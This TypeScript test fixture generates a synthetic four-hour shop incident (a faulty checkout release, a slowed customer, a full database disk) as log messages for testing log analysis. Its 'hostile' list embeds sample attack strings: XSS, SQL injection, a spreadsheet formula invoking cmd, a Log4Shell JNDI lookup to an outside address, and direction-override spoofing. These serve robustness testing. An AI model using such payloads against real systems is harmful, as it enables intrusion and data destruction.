import type { Gelf } from './senders.ts';

const second = 1_000;
const minute = 60 * second;
const hour = 60 * minute;

/** A message as it is sent, and what tests count it by. */
export interface IncidentMessage {
  /** In ms since 1970; no two messages of an incident have the same. */
  moment: number;
  host: string;
  level: number;
  text: string;
  /** Shared by the messages that differ in their variable parts only. */
  shape: string;
  fields: Readonly<Record<string, string | number>>;
}

export interface Incident {
  /** Oldest first. */
  messages: readonly IncidentMessage[];
  /** The first and the last moment, four hours apart. */
  from: number;
  to: number;
  /** When release 2.8.0 began, in the middle. */
  released: number;
  /** When the disk of the database was full. */
  full: number;
}

/** The service of which a release brings an exception, and the customer whose requests take three times as long since. */
export const guilty = {
  service: 'checkout',
  release: '2.8.0',
  exception: 'java.lang.NullPointerException',
  customer: 'acme',
  fullHost: 'db-02',
} as const;

const before = '2.7.4';
/** Customers by how often they order. */
const customers = ['birch', 'cedar', 'acme', 'delta', 'elm', 'acme', 'fir', 'gum', 'hazel', 'ivy'];
const warehouses = ['north', 'south'];

/** What people and attackers have put into log lines: markup, terminal codes, formulas, look-ups and mixed directions. */
const hostile = [
  '<img src=x onerror=alert(1)> in the name of a basket',
  'search for "; DROP TABLE orders; -- found nothing',
  '\u001b[31malert\u001b[0m of the payment terminal',
  '=cmd|" /C calc"!A0 as the street of an address',
  'agent of a browser was ${jndi:ldap://203.0.113.9/a}',
  '\u202Egnp.eciovni\u202C uploaded by שלום, مرحبا and 你好',
  `a header of one word: ${'a'.repeat(9_000)}`,
];

const trace = (frames: readonly string[]) => frames.map((frame) => `\n\tat ${frame}`).join('');
const nullPointer =
  `${guilty.exception}: Cannot invoke "Voucher.value()" because "voucher" is null` +
  trace([
    'shop.checkout.Basket.total(Basket.java:118)',
    'shop.checkout.Orders.place(Orders.java:64)',
    'java.base/java.lang.Thread.run(Thread.java:1583)',
  ]);
const timedOut =
  'java.net.SocketTimeoutException: Read of the acquirer timed out' +
  trace([
    'java.base/java.net.Socket.read(Socket.java:1099)',
    'shop.payments.Acquirer.call(Acquirer.java:57)',
  ]);

/** Pseudo-random whole numbers below a limit, the same for the same seed ("mulberry32"). */
function randomOf(seed: number): (limit: number) => number {
  let state = seed;
  return (limit) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * limit);
  };
}

/** Writes messages with moments of their own. */
class Log {
  readonly messages: IncidentMessage[] = [];
  readonly #moments = new Set<number>();

  add(
    moment: number,
    [service, host, level]: readonly [service: string, host: string, level: number],
    [shape, text]: readonly [shape: string, text: string],
    fields: Record<string, string | number> = {},
  ): void {
    let own = moment;
    while (this.#moments.has(own)) own += 1;
    this.#moments.add(own);
    this.messages.push({ moment: own, host, level, text, shape, fields: { service, ...fields } });
  }
}

interface IncidentOptions {
  /** The end in ms since 1970. */
  to: number;
  /** Each order is about six messages. */
  orders?: number;
  seed?: number;
}

/**
 * Four hours of a shop. In the middle, release 2.8.0 of its checkout brings an exception and makes the requests of one customer
 * three times as slow; later the disk of a database is full, so that orders are not written. The same options give the same messages.
 */
export function generateIncident({ to, orders = 1_800, seed = 41 }: IncidentOptions): Incident {
  const random = randomOf(seed);
  const log = new Log();
  const times = { from: to - 4 * hour, to, released: to - 2 * hour, full: to - 12 * minute };
  const step = (4 * hour) / orders;
  for (let order = 0; order < orders; order += 1) {
    // The last one ends before the incident does.
    const moment = Math.floor(times.from + order * step + random(Math.max(1, step - 5 * second)));
    addOrder(log, { order, moment, times, random });
  }
  addBackground(log, times, random);
  addDisk(log, times);
  const messages = log.messages.toSorted((a, b) => a.moment - b.moment);
  return { ...times, messages };
}

type Times = Omit<Incident, 'messages'>;
type Random = (limit: number) => number;

interface Order {
  order: number;
  moment: number;
  times: Times;
  random: Random;
}

/** The messages of an order through the services, which share a trace. */
function addOrder(log: Log, { order, moment, times, random }: Order): void {
  const isReleased = moment >= times.released;
  const customer = customers[random(customers.length)] ?? '';
  const id = 100_000 + order;
  const traced = {
    customer,
    trace_id: Array.from({ length: 16 }, () => random(16).toString(16)).join(''),
  };
  const [web, checkout] = [`web-0${1 + random(3)}`, `checkout-0${1 + random(2)}`];
  const [pay, db] = [`pay-0${1 + random(2)}`, `db-0${1 + random(2)}`];
  const ofCheckout = { ...traced, release: isReleased ? guilty.release : before };
  let at = moment;
  const after = (milliseconds: number) => {
    at += 2 + random(milliseconds);
    return at;
  };
  log.add(at, ['storefront', web, 6], ['received', `order ${id} received`], {
    ...traced,
    http_method: 'POST',
  });
  log.add(after(9), ['checkout', checkout, 6], ['checking', `checking order ${id}`], ofCheckout);
  log.add(
    after(9),
    ['inventory', 'stock-01', 6],
    ['reserved', `reserved ${1 + random(9)} items of order ${id}`],
    { ...traced, warehouse: warehouses[random(2)] ?? '' },
  );
  // The first orders after the release have no voucher.
  if (moment > times.released + 7 * minute && random(10) === 0) {
    const failed = { ...ofCheckout, exception: guilty.exception };
    log.add(after(9), ['checkout', checkout, 3], ['null pointer', nullPointer], failed);
    log.add(
      after(9),
      ['inventory', 'stock-01', 5],
      ['returned', `returned the items of order ${id}`],
      traced,
    );
    log.add(after(9), ['storefront', web, 4], ['failed', `order ${id} failed with status 500`], {
      ...traced,
      http_status: 500,
    });
    return;
  }
  if (random(60) === 0) {
    const failed = { ...traced, exception: 'java.net.SocketTimeoutException' };
    log.add(after(9), ['payments', pay, 3], ['timed out', timedOut], failed);
  }
  log.add(after(30), ['payments', pay, 6], ['paid', `order ${id} paid with ${5 + random(400)} EUR`], traced);
  if (db === guilty.fullHost && moment >= times.full) {
    const failed = { ...traced, exception: 'java.io.IOException' };
    log.add(
      after(9),
      ['payments', pay, 3],
      ['not written', `order ${id} was not written to the ledger`],
      failed,
    );
  } else log.add(after(9), ['ledger', db, 7], ['written', `ledger entry ${random(1e6)} written`], traced);
  const usual = 70 + random(90) + (random(20) === 0 ? random(300) : 0);
  const slower = isReleased ? (customer === guilty.customer ? 3 : 1.1) : 1;
  const took_ms = Math.round(usual * slower);
  log.add(after(9), ['checkout', checkout, 6], ['done', `order ${id} done in ${took_ms} ms`], {
    ...ofCheckout,
    took_ms,
  });
}

/** What is logged whether anybody orders or not. */
function addBackground(log: Log, { from, to }: Times, random: Random): void {
  const spread = (count: number, add: (moment: number, at: number) => void) => {
    for (let at = 0; at < count; at += 1) add(from + random(to - from), at);
  };
  spread(600, (moment, at) =>
    log.add(
      moment,
      ['storefront', `web-0${1 + (at % 3)}`, 6],
      ['health', `10.0.3.${random(250)} - - "GET /health HTTP/1.1" 200 ${random(90)}`],
      { http_method: 'GET', http_status: 200 },
    ),
  );
  spread(300, (moment) =>
    log.add(
      moment,
      ['inventory', 'stock-01', 6],
      ['synced', JSON.stringify({ event: 'stock synced', items: random(500), took: random(90) })],
    ),
  );
  spread(300, (moment, at) =>
    log.add(moment, ['ledger', `db-0${1 + (at % 2)}`, 7], ['vacuum', `vacuum of ${random(9000)} rows ended`]),
  );
  spread(hostile.length * 8, (moment, at) =>
    log.add(
      moment,
      ['storefront', 'web-01', 4],
      [`hostile ${at % hostile.length}`, hostile[at % hostile.length] ?? ''],
    ),
  );
}

/** The disk of a database host fills within 48 minutes, and then says so every half minute. */
function addDisk(log: Log, { from, to, full }: Times): void {
  const filling = full - 48 * minute;
  for (let moment = from; moment < to; moment += minute) {
    const share = Math.min(1, Math.max(0, (moment - filling) / (full - filling)));
    const disk_used_percent = Math.round(62 + 38 * share);
    const level = disk_used_percent >= 80 ? 4 : 6;
    log.add(
      moment,
      ['ledger', guilty.fullHost, level],
      ['disk', `disk /var/lib/ledger is ${disk_used_percent} percent full`],
      { disk_used_percent },
    );
  }
  for (let moment = full; moment < to; moment += 30 * second)
    log.add(moment, ['ledger', guilty.fullHost, 2], ['no space', 'No space left on /var/lib/ledger']);
}

/** As GELF sends it. */
export const toGelf = ({ moment, host, level, text, fields }: IncidentMessage): Gelf => ({
  host,
  level,
  short_message: text,
  timestamp: moment / 1000,
  ...Object.fromEntries(Object.entries(fields).map(([name, value]) => [`_${name}`, value])),
});

/** How many messages have each value, the most frequent first. */
export function countBy<Key>(
  messages: readonly IncidentMessage[],
  keyOf: (message: IncidentMessage) => Key | undefined,
): [key: Key, count: number][] {
  const counts = new Map<Key, number>();
  for (const message of messages) {
    const key = keyOf(message);
    if (key !== undefined) counts.set(key, (counts.get(key) ?? 0) + 1);
  }
  return [...counts].sort((a, b) => b[1] - a[1]);
}

/** The numbers of a field, in the order of the messages. */
export const numbersOf = (messages: readonly IncidentMessage[], field: string): number[] =>
  messages.flatMap(({ fields }) => (typeof fields[field] === 'number' ? [fields[field]] : []));

export const meanOf = (numbers: readonly number[]): number =>
  numbers.reduce((sum, number) => sum + number, 0) / numbers.length;

/** A percentile, interpolated between the two nearest numbers. */
export function percentileOf(numbers: readonly number[], percent: number): number {
  const sorted = numbers.toSorted((a, b) => a - b);
  const position = (percent / 100) * (sorted.length - 1);
  const [below, above] = [Math.floor(position), Math.ceil(position)].map((at) => sorted[at] ?? Number.NaN);
  return (below ?? 0) + ((above ?? 0) - (below ?? 0)) * (position - Math.floor(position));
}
